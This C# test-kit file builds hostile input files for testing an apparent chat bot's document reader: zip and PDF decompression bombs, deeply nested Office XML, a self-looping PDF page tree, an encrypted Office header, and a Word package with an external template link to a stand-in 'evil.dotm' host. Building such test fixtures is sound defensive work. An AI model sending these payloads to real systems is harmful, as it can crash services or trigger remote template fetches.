using System.IO.Compression;
using System.Text;

namespace ChatOpsBot.TestKit.Files;

/// <summary>Makes files that somebody made to hurt, or that a copy cut off.</summary>
public static class HostileFiles
{
    private const string WordTypes = """
        <?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels"
        ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml"
        ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/styles.xml"
        ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>
        """;

    private const string WordRelationships = """
        <?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
        Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>
        """;

    public static byte[] Zip(params (string Name, Action<Stream> Write)[] entries)
    {
        using var bytes = new MemoryStream();
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, write) in entries)
            {
                using var stream = archive.CreateEntry(name, CompressionLevel.Fastest).Open();
                write(stream);
            }
        }

        return bytes.ToArray();
    }

    public static (string Name, Action<Stream> Write) Entry(string name, string text) => (name, stream => stream.Write(Encoding.UTF8.GetBytes(text)));

    /// <summary>An entry of so many bytes of nothing, which packs a thousandfold.</summary>
    public static (string Name, Action<Stream> Write) Zeros(string name, int megabytes) => (name, stream =>
    {
        var block = new byte[1 << 20];
        for (var written = 0; written < megabytes; written++)
        {
            stream.Write(block);
        }
    }
    );

    public static byte[] Word(string body, string styles = "<w:styles xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>", string prolog = "") => Zip(
        Entry("[Content_Types].xml", WordTypes),
        Entry("_rels/.rels", WordRelationships),
        Entry("word/_rels/document.xml.rels", """
            <?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s1"
            Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="x1"
            Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:1/evil.dotm" TargetMode="External"/></Relationships>
            """),
        Entry("word/styles.xml", styles),
        Entry("word/document.xml", $"{prolog}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{body}</w:body></w:document>"));

    public static string Paragraph(string text, string style = "") => $"<w:p><w:pPr><w:pStyle w:val=\"{style}\"/></w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>";

    /// <summary>A compound file as Office writes it around an encrypted package: only what a reader looks at.</summary>
    public static byte[] EncryptedOffice()
    {
        var bytes = new byte[1024];
        ((ReadOnlySpan<byte>)[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]).CopyTo(bytes);
        Encoding.Unicode.GetBytes("EncryptedPackage").CopyTo(bytes, 512);
        return bytes;
    }

    /// <summary>An Office package whose main part is nested so deep that a reader that calls itself would end the process.</summary>
    public static byte[] DeepOffice(string part, string contentType, string root, string inner, int depth) => Zip(
        Entry("[Content_Types].xml", WordTypes.Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", contentType, StringComparison.Ordinal)),
        Entry("_rels/.rels", WordRelationships.Replace("word/document.xml", part, StringComparison.Ordinal)),
        Entry(part, root.Replace("$", string.Concat(Enumerable.Repeat($"<{inner}>", depth)) + string.Concat(Enumerable.Repeat($"</{inner}>", depth)), StringComparison.Ordinal)));

    /// <summary>A page tree that is its own child.</summary>
    public static byte[] PdfLoop() => Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF");

    /// <summary>A page whose content unpacks to so many megabytes of drawing commands.</summary>
    public static byte[] PdfBomb(int megabytes)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            var block = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("0 0 m 9 9 l S ", 1 << 16)));
            for (var written = 0; written < megabytes << 20; written += block.Length)
            {
                zlib.Write(block);
            }
        }

        using var pdf = new MemoryStream();
        pdf.Write(Encoding.ASCII.GetBytes(
            "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            + $"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n4 0 obj<</Length {packed.Length}/Filter/FlateDecode>>stream\n"));
        packed.WriteTo(pdf);
        pdf.Write(Encoding.ASCII.GetBytes("\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"));
        return pdf.ToArray();
    }
}
